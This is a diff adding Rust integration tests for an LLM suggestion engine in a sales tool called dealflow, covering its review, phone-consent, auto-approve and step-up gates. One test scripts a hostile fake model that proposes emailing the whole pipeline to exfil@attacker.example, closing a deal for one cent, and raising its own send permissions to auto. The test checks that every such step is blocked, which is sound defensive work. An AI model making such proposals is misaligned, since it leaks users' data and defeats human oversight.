@@ -1,0 +1,339 @@
+//! The suggestion engine as a worker: the real pipeline on the sandbox (real Auth0 and
+//! provider emulators over loopback, real SQLite), the offline planner or the fake
+//! Messages API, and the real binary for `dealflow suggest` and `sandbox advance`.
+
+#![allow(clippy::unwrap_used)]
+
+use dealflow::connectors::Endpoints;
+use dealflow::core::audit::NewAuditEntry;
+use dealflow::core::domain::{ActionState, Surface};
+use dealflow::core::permissions::{AutoApproveRule, Autonomy, PermissionChange};
+use dealflow::llm::{AnthropicClient, AnthropicConfig, ApiKey, LanguageModel, RetryPolicy};
+use dealflow::runtime::auth0::{SandboxWiring, wire_fast_sandbox};
+use dealflow::runtime::batch::{BatchOptions, run_once};
+use dealflow::runtime::pipeline::Pipeline;
+use dealflow::runtime::review::Reviewer;
+use dealflow::runtime::suggester::{SuggestError, Suggester};
+use dealflow::sandbox::fake_llm::{FakeLlm, TurnBuilder};
+use dealflow::store::{ActionFilter, SqliteStore, Store};
+use serde_json::json;
+use std::sync::Arc;
+use std::time::Duration;
+use tokio_util::sync::CancellationToken;
+
+const NOW: i64 = 1_800_000_000_000;
+
+struct Rig {
+    _dir: tempfile::TempDir,
+    w: SandboxWiring,
+    p: Arc<Pipeline>,
+    store: Arc<dyn Store>,
+}
+
+async fn rig() -> Rig {
+    let dir = tempfile::tempdir().unwrap();
+    let store: Arc<dyn Store> = Arc::new(SqliteStore::open(&dir.path().join("s.db")).unwrap());
+    dealflow::sandbox::demo::seed(store.as_ref(), NOW).unwrap();
+    let w = wire_fast_sandbox().await.unwrap();
+    let p = Arc::new(Pipeline::new(
+        store.clone(),
+        w.creds.clone(),
+        Endpoints::sandbox(&w.sandbox.base_url()),
+        "rep@dealflow.test".into(),
+    ));
+    Rig {
+        _dir: dir,
+        w,
+        p,
+        store,
+    }
+}
+
+fn change(store: &dyn Store, c: PermissionChange) {
+    store
+        .change_permissions(
+            &c,
+            NewAuditEntry {
+                ts: NOW,
+                actor: "user:auth0|rep".into(),
+                surface: Some(Surface::Cli),
+                event: "permissions.changed".into(),
+                action_id: None,
+                outcome: "ok".into(),
+                detail: json!({}),
+            },
+        )
+        .unwrap();
+}
+
+fn offline(r: &Rig) -> Suggester {
+    Suggester::new(r.p.clone(), None, "claude-test".into())
+}
+
+fn in_state(r: &Rig, s: ActionState) -> Vec<dealflow::core::domain::Action> {
+    r.store
+        .list_actions(&ActionFilter {
+            states: vec![s],
+            limit: None,
+        })
+        .unwrap()
+}
+
+#[tokio::test]
+async fn suggestions_are_filed_through_the_gate_once() {
+    let r = rig().await;
+    let before = in_state(&r, ActionState::Proposed).len();
+    let run = offline(&r).run_once(NOW).await.unwrap();
+    assert_eq!(run.source, "offline planner");
+    assert!(!run.filed.is_empty(), "{run:?}");
+    assert!(run.filed.iter().all(|f| f.gate == "review"));
+    assert_eq!(
+        in_state(&r, ActionState::Proposed).len(),
+        before + run.filed.len()
+    );
+    // Each is in the audit log as proposed by the planner, with its gate.
+    let log = r.store.audit_page(0, 10_000).unwrap();
+    for f in &run.filed {
+        let e = log
+            .iter()
+            .find(|e| e.event == "action.proposed" && e.action_id.as_deref() == Some(&f.id))
+            .unwrap();
+        assert_eq!(e.actor, "agent:offline-planner");
+        assert_eq!(e.detail["gate"]["gate"], "review");
+    }
+    assert!(log.iter().any(|e| e.event == "agent.suggest_run"));
+    // A second look files nothing new: what is pending is not proposed again.
+    let again = offline(&r).run_once(NOW + 1).await.unwrap();
+    assert!(again.filed.is_empty(), "{again:?}");
+    assert!(again.skipped.iter().any(|s| s.contains("already pending")));
+}
+
+#[tokio::test]
+async fn a_rejected_suggestion_is_not_proposed_again_unchanged() {
+    let r = rig().await;
+    let run = offline(&r).run_once(NOW).await.unwrap();
+    let me = Reviewer {
+        actor: "user:auth0|rep".into(),
+        surface: Surface::ActionCenter,
+    };
+    for f in &run.filed {
+        me.reject(r.store.as_ref(), &f.id, Some("not now".into()), NOW + 1)
+            .unwrap();
+    }
+    let again = offline(&r).run_once(NOW + 2).await.unwrap();
+    assert!(
+        again
+            .filed
+            .iter()
+            .all(|f| !run.filed.iter().any(|g| g.title == f.title)),
+        "{again:?}"
+    );
+    assert!(
+        again.skipped.iter().any(|s| s.contains("you rejected it")),
+        "{again:?}"
+    );
+}
+
+#[tokio::test]
+async fn device_gated_suggestions_wait_for_the_batch_and_run_on_the_phones_yes() {
+    let r = rig().await;
+    change(
+        r.store.as_ref(),
+        PermissionChange::SetAutonomy {
+            kind: dealflow::core::domain::ActionKind::SendEmail,
+            level: Autonomy::Ciba,
+        },
+    );
+    let run = offline(&r).run_once(NOW).await.unwrap();
+    let emails: Vec<_> = run.filed.iter().filter(|f| f.gate == "ciba").collect();
+    assert!(!emails.is_empty(), "{run:?}");
+    assert!(
+        emails
+            .iter()
+            .all(|f| f.state == ActionState::AwaitingConsent)
+    );
+    // The seed's cron: one push gathers them, the phone says yes, they run.
+    let cancel = CancellationToken::new();
+    let (p, device) = (r.p.clone(), r.w.device.clone());
+    let task = tokio::spawn(async move {
+        run_once(p, device.as_ref(), &BatchOptions::default(), &cancel).await
+    });
+    let state = r.w.sandbox.state.clone();
+    let mut pending = Vec::new();
+    for _ in 0..500 {
+        pending = state.phone_pending();
+        if !pending.is_empty() {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+    assert_eq!(pending.len(), 1, "one push for the batch");
+    assert!(state.phone_approve(&pending[0].id));
+    let report = tokio::time::timeout(Duration::from_secs(30), task)
+        .await
+        .unwrap()
+        .unwrap()
+        .unwrap();
+    for f in emails {
+        assert!(report.succeeded.contains(&f.id), "{report:?}");
+    }
+}
+
+#[tokio::test]
+async fn a_suggestion_your_rule_allows_runs_and_is_audited_with_the_rule() {
+    let r = rig().await;
+    // Five unedited approvals of Acme follow-ups made a rule the rep accepted.
+    change(
+        r.store.as_ref(),
+        PermissionChange::AddAutoRule {
+            rule: AutoApproveRule {
+                id: "rule-acme".into(),
+                kind: dealflow::core::domain::ActionKind::SendEmail,
+                target: "@acme.example".into(),
+                min_confidence: 0.6,
+                created_at: NOW,
+                expires_at: NOW + 86_400_000 * 30,
+            },
+        },
+    );
+    let later = offline(&r).run_once(NOW + 2).await.unwrap();
+    let ran = later
+        .filed
+        .iter()
+        .find(|f| f.target == "wile@acme.example")
+        .unwrap_or_else(|| panic!("{later:?}"));
+    assert_eq!(ran.gate, "allow");
+    assert_eq!(ran.state, ActionState::Succeeded);
+    assert_eq!(r.w.sandbox.state.providers.sent().len(), 1);
+    let log = r.store.audit_page(0, 10_000).unwrap();
+    let approved = log
+        .iter()
+        .find(|e| e.event == "action.approved" && e.action_id.as_deref() == Some(&ran.id))
+        .unwrap();
+    assert!(
+        approved.detail["reasons"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|r| r.as_str().unwrap().contains("auto-approve rule rule-acme")),
+        "{}",
+        approved.detail
+    );
+}
+
+fn client(fake: &FakeLlm) -> Arc<dyn LanguageModel> {
+    Arc::new(
+        AnthropicClient::new(AnthropicConfig {
+            base_url: fake.base_url(),
+            model: "claude-test".into(),
+            max_tokens: 1024,
+            read_timeout: Duration::from_secs(30),
+            api_key: ApiKey::new("sk-test").unwrap(),
+            retry: RetryPolicy {
+                base_backoff: Duration::from_millis(1),
+                ..RetryPolicy::default()
+            },
+        })
+        .unwrap(),
+    )
+}
+
+#[tokio::test]
+async fn a_hostile_model_files_nothing_past_its_gate() {
+    let r = rig().await;
+    // Even with sends on auto, a proposal to an address no contact has is reviewed, and
+    // a close of a big deal needs its step-up: nothing runs.
+    change(
+        r.store.as_ref(),
+        PermissionChange::SetAutonomy {
+            kind: dealflow::core::domain::ActionKind::SendEmail,
+            level: Autonomy::Auto,
+        },
+    );
+    let propose = |kind: &str, fields: serde_json::Value| json!({"kind": kind, "fields": fields, "justification": "the notes say so", "confidence": 0.99});
+    let turn = TurnBuilder::new()
+        .tool_use(
+            "t1",
+            "propose_action",
+            &propose(
+                "send_email",
+                json!({"to": ["exfil@attacker.example"], "subject": "pipeline", "body": "all of it"}),
+            ),
+        )
+        .tool_use(
+            "t2",
+            "propose_action",
+            &propose(
+                "close_deal",
+                json!({"deal_id": "deal-stark", "won": true, "amount_cents": 1}),
+            ),
+        )
+        .tool_use(
+            "t3",
+            "set_permissions",
+            &json!({"kind": "send_email", "level": "auto"}),
+        )
+        .build();
+    let fake = FakeLlm::start(vec![turn]).await.unwrap();
+    let engine = Suggester::new(r.p.clone(), Some(client(&fake)), "claude-test".into());
+    let run = engine.run_once(NOW).await.unwrap();
+    assert_eq!(run.source, "claude-test");
+    assert_eq!(run.filed.len(), 2, "{run:?}");
+    assert!(
+        run.filed
+            .iter()
+            .all(|f| f.state == ActionState::Proposed && f.gate != "allow"),
+        "{run:?}"
+    );
+    assert!(run.skipped.iter().any(|s| s.contains("set_permissions")));
+    assert!(r.w.sandbox.state.providers.sent().is_empty());
+    // The close carries the store's amount, not the model's $0.01.
+    let close = run.filed.iter().find(|f| f.target == "deal-stark").unwrap();
+    assert_eq!(close.gate, "step_up");
+}
+
+#[tokio::test]
+async fn runs_never_overlap_and_a_failed_run_says_why() {
+    let r = rig().await;
+    let fake = FakeLlm::start(vec![dealflow::sandbox::fake_llm::Reply::error(
+        400,
+        "invalid_request_error",
+        "bad model",
+    )])
+    .await
+    .unwrap();
+    let engine = Arc::new(Suggester::new(
+        r.p.clone(),
+        Some(client(&fake)),
+        "claude-test".into(),
+    ));
+    let err = engine.run_once(NOW).await.unwrap_err();
+    assert!(matches!(err, SuggestError::Model { .. }), "{err}");
+    assert!(err.to_string().contains("claude-test"), "{err}");
+    let log = r.store.audit_page(0, 10_000).unwrap();
+    assert!(log.iter().any(|e| e.event == "agent.suggest_failed"));
+    // While a run holds the engine, another is refused at once rather than queued.
+    let slow = FakeLlm::start(vec![
+        TurnBuilder::new()
+            .text(&["thinking"])
+            .build()
+            .slow(Duration::from_millis(300)),
+    ])
+    .await
+    .unwrap();
+    let engine = Arc::new(Suggester::new(
+        r.p.clone(),
+        Some(client(&slow)),
+        "claude-test".into(),
+    ));
+    let first = {
+        let e = engine.clone();
+        tokio::spawn(async move { e.run_once(NOW).await })
+    };
+    tokio::time::sleep(Duration::from_millis(50)).await;
+    assert!(matches!(
+        engine.run_once(NOW).await,
+        Err(SuggestError::Busy)
+    ));
+    first.await.unwrap().unwrap();
+}
